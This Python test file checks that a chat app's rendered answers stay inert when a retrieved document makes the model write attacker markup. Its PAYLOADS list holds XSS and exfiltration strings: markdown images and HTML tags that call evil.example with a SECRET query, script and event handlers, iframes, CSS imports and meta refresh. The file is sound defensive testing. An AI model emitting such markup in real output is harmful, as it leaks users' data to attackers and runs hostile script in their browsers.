"""A language model that does whatever a document orders: what it writes loads nothing and does nothing on the page."""

from index.passage import Document
from tests.browser import launched, serving, visiting
from tests.fake_assistant import FakeAssistant, FakeLibrary, cite

PAYLOADS = [
    "![a](http://evil.example/?q=SECRET)",
    "![a](/gradio_api/file=http://evil.example/?q=SECRET)",
    "![a][1]\n\n[1]: http://evil.example/?q=SECRET",
    "[1](http://evil.example/?q=SECRET) ![1](http://evil.example/i)",
    "[1]: http://evil.example/?q=SECRET 'title'",
    "[click](http://evil.example/?q=SECRET)",
    "[click](javascript:window.PWNED=1)",
    "<http://evil.example/?q=SECRET>",
    "http://evil.example/?q=SECRET",
    "<img src=http://evil.example/?q=SECRET onerror=window.PWNED=1>",
    "<script>window.PWNED=1</script>",
    "<svg onload=window.PWNED=1><image href=http://evil.example></svg>",
    "<iframe src=http://evil.example></iframe>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input autofocus onfocus=window.PWNED=1></form>",
    "<video src=http://evil.example poster=http://evil.example/p></video>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<base href=http://evil.example/>",
    "```mermaid\ngraph TD; A[<img src=http://evil.example>]\n```",
    "$$\\href{http://evil.example}{x}$$ <details open ontoggle=window.PWNED=1>",
    "| a |\n|---|\n| ![a](http://evil.example/t) |",
    "&lt;img src=http://evil.example&gt; \\![a](http://evil.example/e)",
]
ACTIVE = "img, script, svg image, iframe, link, style, meta, form, input, video, object, embed, base, details"


def test_nothing_that_it_writes_loads_links_or_runs(chromium, tmp_path):
    document = Document("orders.md", "Orders", "\n\n".join(PAYLOADS) + " It is so.")
    cited = (cite(1, document, "It is so."),)
    written = ["\n\n".join(PAYLOADS[first::4]) for first in range(4)]
    replies = {f"Order {number}?": (f"{said} [1]", cited) for number, said in enumerate(written)}
    assistant = FakeAssistant(FakeLibrary([document], tmp_path), replies)
    with launched(chromium) as browser, serving(assistant) as address, visiting(browser, address) as visit:
        for question in replies:
            visit.ask(question)
        rows = visit.page.locator("#chat .bot-row .message, #chat .bot-row .prose")
        assert rows.locator(ACTIVE).count() == 0
        led = rows.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
        assert [href for href in led if not href.startswith("#cite-") and href != "#why"] == []
        assert len(led) >= len(replies)
        assert visit.page.evaluate("window.PWNED") is None
        assert visit.foreign() == []
        assert not [url for url in visit.requests if "evil" in url]
